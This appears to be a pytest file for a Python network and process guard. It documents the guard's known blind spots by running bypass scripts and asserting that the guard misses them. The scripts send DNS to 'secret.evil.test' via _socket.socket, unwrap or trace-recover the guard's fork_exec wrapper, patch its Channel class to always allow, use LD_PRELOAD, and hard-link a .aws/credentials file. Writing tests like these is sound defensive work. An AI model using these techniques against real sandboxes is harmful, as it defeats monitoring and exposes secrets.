"""What the witness does not hold, shown: the threat model says so, row by row, and none of it may be promised.

A test here that fails because the act was refused is good news: then the row in `docs/explanation/threat-model.md`
changes, and the script moves to `attacks.py`.
"""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from tests.hostile.attacks import HELPERS, PRELUDE
from tests.hostile.targets import PYTHONS, RULES, Targets
from tests.shim.guests import guarded
from tests.support.interpreters import Interpreter

pytestmark = pytest.mark.hostile

#: name -> (target, first version where it is held after all, or None; code)
NOT_HELD: dict[str, tuple[str, tuple[int, int] | None, str]] = {
    # "the same through `_socket.socket`, the class below `socket.socket`"
    "a name given to _socket.socket": ("dns", None, "quiet(_socket.socket().connect, ('secret.evil.test', 1))"),
    "a name given to an unbound method": (
        "dns", None, "s = socket.socket(); quiet(_socket.socket.connect, s, ('secret.evil.test', 1))",
    ),
    # "tampering from inside"
    "the function that a wrapper wraps": (
        "mark", (3, 14),
        "import _posixsubprocess as p, multiprocessing.util as u\n"
        "p.fork_exec = [c.cell_contents for c in p.fork_exec.__closure__ if type(c.cell_contents) is type(len)][0]\n"
        "os.waitpid(u.spawnv_passfds(MARK.encode(), [b'x'], []), 0)",
    ),
    "a class of ours found among the subclasses": (
        "tcp", None,
        "for c in object.__subclasses__():\n"
        "    if c.__module__ == 'netguard.shim.channel' and c.__name__ == 'Channel':\n"
        "        c.ask = lambda *a: ['allow', '0', '', '']\n"
        "s = socket.socket(); s.connect((H, TCP)); reach(s)",
    ),
    "the frame of a function of ours": (
        "mark", (3, 14),
        "import _posixsubprocess as p, multiprocessing.util as u\nfound = []\n"
        "def trace(frame, event, arg):\n"
        "    if frame.f_code.co_name == 'fork_exec': found.append(frame.f_locals['original'])\n"
        "sys.settrace(trace)\nquiet(u.spawnv_passfds, b'/bin/true', [b'x'], [])\nsys.settrace(None)\n"
        "p.fork_exec = found[0]\n"
        "os.waitpid(u.spawnv_passfds(MARK.encode(), [b'x'], []), 0)",
    ),
}  # fmt: skip


@pytest.mark.parametrize("python", PYTHONS, ids=str)
@pytest.mark.parametrize("what", NOT_HELD)
def test_act_is_not_held_by_the_witness(
    what: str, python: Interpreter, targets: Targets, tmp_path: Path
) -> None:
    target, held_from, code = NOT_HELD[what]
    if held_from is not None and python.version >= held_from:
        pytest.skip(f"held from {held_from} on, by an event of C's own")
    targets.touched()
    script = f"{PRELUDE.format(place=targets.place)}{HELPERS}{code}\n"
    run = guarded(tmp_path, script, python, rules=RULES, within=targets.space)
    assert target in targets.touched(), (run.stdout, run.stderr)


def test_listening_through_the_class_below_is_not_seen(tmp_path: Path) -> None:
    """`listen` raises no event, and that type cannot be wrapped."""
    current = Interpreter(sys.version_info[:2], sys.executable)
    code = "import _socket\ns = _socket.socket()\ns.listen(1)\nprint(s.getsockname()[0])\n"
    run = guarded(tmp_path, code, current, rules=RULES)
    assert run.stdout == "0.0.0.0\n"
    assert run.lines("listen") == []


def test_environment_of_an_allowed_program_is_not_judged(tmp_path: Path) -> None:
    """`LD_PRELOAD` and the like make an allowed program run other code; which program starts is all that is decided."""
    current = Interpreter(sys.version_info[:2], sys.executable)
    code = "import subprocess\nsubprocess.run(['/usr/bin/env'], env={'LD_PRELOAD': '/nonexistent.so'}, stderr=-3)\n"
    run = guarded(tmp_path, code, current, rules=f"{RULES}  - {{log: exec, program: env}}\n")
    assert "LD_PRELOAD=/nonexistent.so" in run.stdout
    assert run.lines("native") == []


def test_credential_file_by_another_name_is_not_seen(tmp_path: Path) -> None:
    """The names of well-known files are watched, not what a link leads to."""
    current = Interpreter(sys.version_info[:2], sys.executable)
    code = """\
        import os
        os.mkdir(".aws")
        with open("other", "w") as file:
            file.write("secret")
        os.link("other", ".aws/credentials")
        print(open("other").read())
    """
    run = guarded(tmp_path, code, current, rules=RULES)
    assert (run.stdout, run.lines("file")) == ("secret\n", [])
